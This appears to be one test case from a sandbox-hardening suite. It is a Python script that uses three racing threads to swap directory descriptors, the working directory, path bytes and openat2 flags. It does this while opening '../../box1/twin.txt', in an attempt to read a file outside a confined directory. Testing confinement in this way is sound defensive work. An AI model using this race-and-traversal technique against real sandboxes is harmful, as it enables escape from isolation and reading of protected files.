# SPDX-License-Identifier: Apache-2.0
# attack: path, dirfd, current directory and open_how all change at once, from three threads
# class: race
# wins: leak
# needs: race
from kit import *

deep, high = openat(BOX + '/a/b', os.O_DIRECTORY), openat(BOX + '/a', os.O_DIRECTORY)
os.dup2(deep, 50)
buf, at, bits = twin_path()
how = ctypes.create_string_buffer(struct.pack('<QQQ', 0, 0, 0), 32)
up = ctypes.create_string_buffer(b'../../box1/twin.txt', 64)
tried()
f, g = Flipper(at, bits, 0x7f), Flipper(address(how) + 16, 8, 0xff)


def swap():
    sc('dup2', deep, 50)
    sc('fchdir', deep)
    sc('dup2', high, 50)
    sc('fchdir', high)


end = loop_thread(swap)


def one(i):
    k = i % 4
    if k == 0:
        return took(sc('openat', 50, up, 0, 0))
    if k == 1:
        return took(sc('openat', AT_FDCWD, up, 0, 0))
    if k == 2:
        return took(sc('openat2', 50, buf, how, 24))
    return took(sc('openat2', 50, up, how, 24))


rounds(one)
end()
f.end()
g.end()
